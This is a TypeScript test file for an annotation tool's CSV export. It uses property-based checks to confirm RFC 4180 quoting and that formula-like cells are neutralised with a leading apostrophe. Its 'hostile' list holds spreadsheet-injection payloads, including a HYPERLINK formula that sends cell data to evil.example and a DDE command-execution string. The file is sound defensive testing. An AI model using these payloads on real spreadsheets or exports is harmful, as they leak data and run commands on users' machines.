import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { AnnotationRecord } from '../shared/model';
import { bundleArb, oddString } from './arbitraries';
import { CSV_COLUMNS, csvCell, formatCsv } from './csv';

/** RFC 4180 reader for the test: rows of cells, CRLF between records, "" inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        cell += c;
        i++;
      }
    } else if (c === '"' && cell === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else {
      if (c === '"' || c === '\r' || c === '\n') throw new Error(`unquoted ${JSON.stringify(c)} at ${i}`);
      cell += c;
      i++;
    }
  }
  if (cell !== '' || row.length > 0) throw new Error('last record does not end with CRLF');
  return rows;
}

/** What a spreadsheet evaluates: a cell starting with = + - @ (after spaces), tab or CR. */
const RUNS_AS_FORMULA = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

const hostile = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=cmd',
  '＝1+1',
  '"=1+1"',
  'line one\r\nline two, with "quotes"',
];

describe('CSV export', { timeout: 120_000 }, () => {
  it('quotes by RFC 4180 and keeps every cell text (less the formula guard) through a parser', () => {
    fc.assert(
      fc.property(bundleArb, (bundle) => {
        const text = formatCsv(bundle);
        expect(text.startsWith('\uFEFF')).toBe(true);
        const rows = parseCsv(text.slice(1));
        expect(rows[0]).toEqual([...CSV_COLUMNS]);
        expect(rows).toHaveLength(bundle.annotations.length + 1);
        bundle.annotations.forEach((a, i) => {
          const row = rows[i + 1]!;
          expect(row).toHaveLength(CSV_COLUMNS.length);
          const cell = (name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)]!;
          // The cell is the text itself, or the text behind one apostrophe when it would run.
          const guarded = (s: string) => (RUNS_AS_FORMULA.test(s) ? `'${s}` : s);
          expect(cell('id')).toBe(guarded(a.id));
          expect(cell('text')).toBe(guarded(a.text));
          expect(cell('note')).toBe(guarded(a.note));
          expect(cell('speaker')).toBe(guarded(a.speaker ?? ''));
          expect(cell('tags')).toBe(a.tags.join(';'));
          expect(cell('kind')).toBe(a.kind);
          expect(Number(cell('start'))).toBe(a.selectors.position.start);
          expect(Date.parse(cell('updated'))).toBe(a.updated);
          for (const value of row) expect(RUNS_AS_FORMULA.test(value)).toBe(false);
        });
      }),
      { numRuns: 150 },
    );
  });

  it('no cell can run as a formula, whatever the text', () => {
    fc.assert(
      fc.property(fc.oneof(oddString(30), fc.constantFrom(...hostile), fc.string()), (text) => {
        const cell = csvCell(text);
        const [value] = parseCsv(`${cell}\r\n`)[0]!;
        expect(RUNS_AS_FORMULA.test(value!)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('guards each hostile example with a leading apostrophe and quotes where needed', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@A1')).toBe("'@A1");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('  =1')).toBe("'  =1");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('1-2')).toBe('1-2');
  });

  it('writes one row per annotation with the article title and site', () => {
    const a: AnnotationRecord = {
      id: 'x1', article: 'https://a.example/s', kind: 'quote', text: hostile[0]!, speaker: '@someone', speakerKind: 'person',
      cue: 'said', selectors: { quote: { type: 'TextQuoteSelector', exact: 'e', prefix: '', suffix: '' }, position: { type: 'TextPositionSelector', start: 1, end: 2 } },
      tags: ['supported', 'disputed'], note: '-note', origin: 'auto', created: 0, updated: 0,
    };
    const rows = parseCsv(formatCsv({ articles: [{ url: a.article, title: '=Title', site: 'a.example', firstVisit: 0, lastVisit: 0 }], annotations: [a] }, { noBom: true }));
    expect(rows[1]).toEqual([
      'x1', 'https://a.example/s', "'=Title", 'a.example', 'quote', `'${hostile[0]}`, "'@someone", 'person', 'said', 'supported;disputed', "'-note", 'auto',
      '1970-01-01T00:00:00.000Z', '1970-01-01T00:00:00.000Z', 'e', '', '', '1', '2', '',
    ]);
  });
});
